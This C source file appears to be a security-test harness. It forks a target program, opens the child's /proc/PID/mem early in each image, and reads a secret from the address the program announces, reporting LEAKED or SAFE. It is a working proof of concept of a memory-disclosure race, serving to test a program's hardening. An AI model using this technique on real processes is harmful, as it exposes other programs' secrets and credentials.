/* An attacker of the launch window: starts a program as its own child, opens
 * /proc/PID/mem of each image that the child becomes as early as it can, and
 * reads the secret through those descriptors once the program has loaded it.
 *
 * Usage: window PROGRAM [ARG...]
 * The program is as chat.py: it prints lines, one of them "READY ADDRESS".
 * They are passed on; then comes "LEAKED ..." or "SAFE", and how many images
 * it has seen and has opened. The program goes on until its input ends. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#define IMAGES 16
#define SECRET_SIZE 256

/* In every image of the child before its first exec, and in none after that. */
static const char landmark = 'x';

static char text[1 << 16];
static size_t text_length;

/* Takes in what the program has printed. Returns the address after READY, or 0. */
static unsigned long read_output(int output)
{
    struct pollfd ready = {output, POLLIN, 0};
    const char *line;
    ssize_t length;

    if (poll(&ready, 1, 0) <= 0)
        return 0;
    length = read(output, text + text_length, sizeof text - 1 - text_length);
    if (length <= 0) {
        printf("ENDED before it was ready\n");
        exit(1);
    }
    if (write(1, text + text_length, (size_t)length) != length)
        exit(1);
    text_length += (size_t)length;
    text[text_length] = '\0';
    line = strstr(text, "READY ");
    return line && strchr(line, '\n') ? strtoul(line + 6, NULL, 10) : 0;
}

/* Whether the image that mem was opened on is gone: it then reads as empty. */
static int is_dead(int mem)
{
    char byte;

    return pread(mem, &byte, 1, (off_t)(unsigned long)&landmark) == 0;
}

int main(int argc, char **argv)
{
    int images[IMAGES], opened = 0, current = -1, ends[2];
    char path[64], secret[SECRET_SIZE + 1] = "";
    unsigned long address = 0;
    pid_t child;

    (void)argc;
    if (pipe(ends))
        return 2;
    child = fork();
    if (!child) {
        dup2(ends[1], 1);
        close(ends[0]);
        close(ends[1]);
        execvp(argv[1], argv + 1);
        _exit(127);
    }
    close(ends[1]);
    snprintf(path, sizeof path, "/proc/%d/mem", (int)child);
    for (unsigned long turn = 0; !address; turn++) {
        if (current >= 0 && is_dead(current))
            current = -1;
        if (current < 0 && opened < IMAGES) {
            current = open(path, O_RDONLY | O_CLOEXEC);
            if (current >= 0)
                images[opened++] = current;
        }
        if (turn % 64 == 0)
            address = read_output(ends[0]);
    }
    for (int i = 0; i < opened && !*secret; i++)
        if (pread(images[i], secret, SECRET_SIZE, (off_t)address) <= 0)
            *secret = '\0';
    printf("%s %s opened %d\n", *secret ? "LEAKED" : "SAFE", *secret ? secret : "-", opened);
    fflush(stdout);
    /* On with the program's own output. */
    for (ssize_t length; (length = read(ends[0], text, sizeof text)) > 0;)
        if (write(1, text, (size_t)length) != length)
            break;
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    return 0;
}
